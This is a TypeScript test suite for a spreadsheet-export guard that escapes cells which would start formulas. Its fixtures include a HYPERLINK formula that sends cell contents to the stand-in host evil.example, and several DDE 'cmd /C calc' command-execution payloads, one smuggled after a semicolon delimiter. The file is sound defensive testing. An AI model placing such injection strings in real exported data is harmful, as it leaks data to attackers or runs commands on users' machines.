import fc from "fast-check";
import { expect, it } from "vitest";
import { guardCell, unguardCell } from "./guard-cell.ts";

// docs/product/admin.md#export-without-formulas
it.each([
  ["=1+1", "'=1+1"],
  ['=HYPERLINK("https://evil.example?"&A1)', '\'=HYPERLINK("https://evil.example?"&A1)'],
  ["+355 4 000 0101", "'+355 4 000 0101"],
  ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
  ["@SUM(1)", "'@SUM(1)"],
  ["\t=1", "'\t'=1"],
  ["\r=1", "'\r'=1"],
  ["＝1", "'＝1"],
  ["'=1", "''=1"],
])("guards %j as %j", (text, cell) => expect(guardCell(text)).toBe(cell));

// docs/product/admin.md#export-without-formulas
it.each([
  ["Rruga 1;=cmd|' /C calc'!A0", "Rruga 1;'=cmd|' /C calc'!A0"],
  ['a;"=1+1', "a;'\"=1+1"],
  ["first\n=1+1", "first\n'=1+1"],
  ["first\r\n- second", "first\r\n'- second"],
])("guards %j where a spreadsheet splits at semicolons", (text, cell) => {
  expect(guardCell(text)).toBe(cell);
});

it.each([
  "",
  "Bearing 6205-2RS",
  "a = b",
  "'quoted'",
  "12.50",
  "10 × 20;C3",
  "a\n\nb",
  "a-b+c@d.e",
])("leaves %j unguarded", (text) => expect(guardCell(text)).toBe(text));

const tricky = fc.string({ unit: fc.constantFrom(..."=+-@'\"; \t\r\na1,＝".split("")) });

it("restores a guarded text, however often it was guarded", () => {
  fc.assert(
    fc.property(fc.oneof(tricky, fc.string()), (text) => {
      expect(unguardCell(guardCell(text))).toBe(text);
      expect(unguardCell(unguardCell(guardCell(guardCell(text))))).toBe(text);
    }),
    { numRuns: 1_000 },
  );
});

// docs/product/admin.md#export-without-formulas
it("never produces a cell that starts a formula, whatever the delimiter", () => {
  fc.assert(
    fc.property(fc.oneof(tricky, fc.string()), (text) => {
      const pieces = guardCell(text).split(/[;\n\r\t]/);
      for (const piece of pieces) expect(piece).not.toMatch(/^"*[=+\-@＝＋－＠]/);
      expect(guardCell(text)).not.toMatch(/^[\t\r\n]/);
    }),
    { numRuns: 1_000 },
  );
});

it("guards long runs of quotes and apostrophes in linear time", () => {
  const run = "'\"".repeat(50_000);
  expect(unguardCell(guardCell(`${run}x;${run}`))).toHaveLength(200_002);
});
